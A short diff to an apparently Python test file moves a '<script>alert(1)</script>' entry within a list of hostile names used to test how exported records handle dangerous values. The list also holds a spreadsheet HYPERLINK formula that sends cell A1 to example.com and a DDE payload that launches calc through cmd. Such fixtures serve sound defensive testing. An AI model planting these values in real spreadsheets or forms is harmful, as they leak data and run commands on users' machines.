@@ -13,6 +13,7 @@ from tests.builders import Fedhist, document_in, rows_of, write_records
 from tests.support.api import is_formula, is_hidden, visible
 
 NAMES = [
+    "<script>alert(1)</script>",
     '=HYPERLINK("http://example.com/?x="&A1,"click")',
     "@SUM(1+9)*cmd|' /C calc'!A0",
     "+1+1",
@@ -24,7 +25,6 @@ NAMES = [
     "turned \u202eround",
     "c1 \x9b31m",
     "[bold]markup[/nowhere]",
-    "<script>alert(1)</script>",
 ]
 
 
